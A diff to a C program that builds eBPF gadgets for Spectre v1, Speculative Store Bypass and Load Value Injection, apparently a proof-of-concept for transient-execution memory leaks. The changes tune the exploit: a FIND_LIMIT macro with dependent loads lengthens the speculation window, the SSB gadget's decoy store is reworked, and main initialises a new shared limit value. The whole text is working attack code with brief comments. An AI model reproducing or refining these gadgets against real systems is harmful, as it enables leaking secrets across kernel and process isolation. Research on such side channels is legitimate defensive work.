@@ -68,9 +68,20 @@ enum { COUNT_BYTE_LENGTH = 13 };
 	COUNT_BYTE
 enum { READ_TABLE_LENGTH = 6 + COUNT_BYTE_LENGTH };
 
-/* Counts the byte of the table at the index that user memory has where R3 points, if it is there. */
-#define READ_TABLE_AT_USERS_INDEX                         \
+/* Reads the limit to R8 where another line says that it is: two loads that wait for each other; R1 is lost. */
+#define FIND_LIMIT                                        \
 	READ_LIMIT,                                       \
+	AND_IMM(BPF_REG_8, 0),                            \
+	MAP_ADDRESS(BPF_REG_1, shared, SHARED_FOUND_LIMIT), \
+	ADD(BPF_REG_1, BPF_REG_8),                        \
+	LOAD(BPF_B, BPF_REG_8, BPF_REG_1, 0)
+
+/*
+ * Counts the byte of the table at the index that user memory has where R3 points, if it is there. It may be
+ * long before the code of probe_read_user is near, so the limit has to be far.
+ */
+#define READ_TABLE_AT_USERS_INDEX                         \
+	FIND_LIMIT,                                       \
 	MOVE(BPF_REG_1, BPF_REG_10),                      \
 	ADD_IMM(BPF_REG_1, -16),                          \
 	MOVE_IMM(BPF_REG_2, 8),                           \
@@ -105,7 +116,8 @@ static void load_spectre_v1(void)
 /*
  * A slot of the stack holds a pointer to the table. Requests that are not harmless put their value
  * there and then the pointer again; where that store goes is known late, as its address waits for
- * the shared array. In between is a store elsewhere, so that there always is one under way.
+ * the shared array. In between is a store elsewhere, whose address is known a little later than the
+ * load's: there always is one that the load need not wait for.
  */
 static void load_ssb(void)
 {
@@ -125,7 +137,12 @@ static void load_ssb(void)
 		ADD(BPF_REG_2, BPF_REG_4),
 		STORE(BPF_DW, BPF_REG_2, BPF_REG_8, 0),
 		/* harmless */
-		STORE(BPF_DW, BPF_REG_10, BPF_REG_7, -32),
+		LOAD(BPF_DW, BPF_REG_4, BPF_REG_10, -8),
+		AND_IMM(BPF_REG_4, 0),
+		MOVE(BPF_REG_2, BPF_REG_10),
+		ADD_IMM(BPF_REG_2, -32),
+		ADD(BPF_REG_2, BPF_REG_4),
+		STORE(BPF_DW, BPF_REG_2, BPF_REG_7, 0),
 		LOAD(BPF_DW, BPF_REG_3, BPF_REG_10, -24),
 		LOAD(BPF_B, BPF_REG_0, BPF_REG_3, 0),
 		COUNT_BYTE,
@@ -162,7 +179,7 @@ static void load_lvi(void)
 {
 	const struct bpf_insn program[] = {
 		LOAD(BPF_DW, BPF_REG_2, BPF_REG_1, 8),
-		JUMP_NOT_EQUAL_IMM(BPF_REG_2, LVI_CALL, 16 + READ_TABLE_LENGTH),
+		JUMP_NOT_EQUAL_IMM(BPF_REG_2, LVI_CALL, 21 + READ_TABLE_LENGTH),
 		LOAD(BPF_DW, BPF_REG_3, BPF_REG_1, 0),
 		ADD_IMM(BPF_REG_3, USER_RDI),
 		MOVE(BPF_REG_1, BPF_REG_10),
@@ -333,6 +350,7 @@ int main(int argc, char **argv)
 		err(1, "mmap");
 	memset(value, 0, SHARED_BYTES);
 	value[SHARED_LIMIT] = HIGHEST_INDEX;
+	value[SHARED_FOUND_LIMIT] = HIGHEST_INDEX;
 	value[SHARED_KNOWN] = KNOWN_BYTE;
 	munmap(value, SHARED_BYTES);
 
